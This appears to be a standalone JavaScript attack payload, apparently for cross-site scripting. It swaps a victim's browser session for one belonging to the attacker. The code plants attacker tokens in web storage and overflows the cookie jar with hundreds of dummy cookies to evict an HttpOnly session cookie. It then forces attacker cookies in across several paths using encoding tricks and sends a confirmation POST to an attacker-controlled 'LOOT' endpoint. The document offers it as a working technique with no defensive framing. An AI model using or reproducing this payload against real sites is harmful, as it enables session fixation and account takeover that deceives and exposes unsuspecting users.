// Replaces the victim's session with one of the attacker's account. Script cannot overwrite an HttpOnly cookie, so the
// script first sets so many cookies that the browser evicts it.
(async () => {
  const { tokens, cookies } = JSON.parse(PLANTED);
  if (tokens) for (const store of [localStorage, sessionStorage]) store.setItem("tokens", tokens);
  for (let n = 0; n < 400; n++) document.cookie = `f${n}=${n}; path=/; secure`;
  for (let n = 0; n < 400; n++) document.cookie = `g${n}=${n}; path=/`;
  for (const [name, value] of Object.entries(cookies)) {
    for (const rest of ["; path=/; secure", "; path=/", "; path=/api", "; path=/auth", "; path=/refresh"]) {
      document.cookie = `${name}=${value}${rest}`;
      document.cookie = `\u2000${name}=${value}${rest}`;
      document.cookie = `=${name}=${value}${rest}`;
    }
  }
  await fetch(LOOT, { method: "POST", mode: "no-cors", body: "planted" });
})();
